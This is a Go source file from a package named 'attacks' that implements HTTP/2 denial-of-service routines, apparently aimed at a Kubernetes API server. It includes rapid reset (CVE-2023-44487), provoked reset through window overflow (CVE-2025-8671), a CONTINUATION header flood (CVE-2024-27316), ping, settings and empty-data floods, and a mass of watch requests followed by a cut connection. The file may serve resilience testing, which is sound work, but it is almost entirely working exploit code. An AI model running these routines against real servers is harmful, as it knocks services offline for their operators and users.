package attacks

import (
	"context"
	"fmt"
	"net/http"
	"time"

	"golang.org/x/net/http2"
)

// Frames and requests that cost their sender less than the server.

// abuse writes the same few frames many times on a connection of its own. Servers end it
// sooner or later.
func abuse(times int, frames func(c *connection, a *attacker)) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := a.dial(ctx, a.config, false)
		if err != nil {
			return err
		}
		defer c.close()
		for n := 0; n < times && c.failed == nil && ctx.Err() == nil; n++ {
			frames(c, a)
		}
		if c.failed != nil {
			return c.failed
		}
		ended, cancel := context.WithTimeout(ctx, time.Second)
		defer cancel()
		return c.wait(ended)
	}
}

// rapidReset opens a stream and takes it back (CVE-2023-44487).
func rapidReset(c *connection, a *attacker) {
	id := c.request(true, nil, http.MethodGet, a.Lists, a.Token)
	c.do(c.framer.WriteRSTStream(id, http2.ErrCodeCancel))
}

// provokedReset has the server reset a stream, by a window that becomes too large
// (CVE-2025-8671).
func provokedReset(c *connection, a *attacker) {
	id := c.request(true, nil, http.MethodGet, a.Lists, a.Token)
	c.do(c.framer.WriteWindowUpdate(id, 1<<31-1))
}

func pings(c *connection, _ *attacker) { c.do(c.framer.WritePing(false, [8]byte{})) }

func settings(c *connection, _ *attacker) {
	c.do(c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: c.next % 65536}))
}

// continuations begins a header that has no end (CVE-2024-27316).
func continuations(c *connection, _ *attacker) {
	if c.next == 1 {
		c.next = 3
		c.do(c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x80 | 32}}))
	}
	c.do(c.framer.WriteContinuation(1, false, []byte{0x80 | 32}))
}

// emptyData sends a body of frames with nothing in them.
func emptyData(c *connection, a *attacker) {
	if c.next == 1 {
		c.request(false, nil, http.MethodPost, a.Lists, a.Token, "content-type", "application/json")
	}
	c.do(c.framer.WriteData(1, false, nil))
}

// readiness asks whether the server is ready.
func readiness(ctx context.Context, a *attacker) error {
	return a.send(ctx, http.MethodGet, "/readyz", "")
}

// watchesCut opens a hundred watches on a connection and cuts it.
func watchesCut(ctx context.Context, a *attacker) error {
	c, err := a.dial(ctx, a.config, false)
	if err != nil {
		return err
	}
	defer c.close()
	for n := range 100 {
		c.request(true, nil, http.MethodGet, fmt.Sprintf("%s?watch=true&resourceVersion=0&labelSelector=app%%3Dnone%d", a.Lists, n), a.Token)
	}
	ended, cancel := context.WithTimeout(ctx, 100*time.Millisecond)
	defer cancel()
	return c.wait(ended)
}
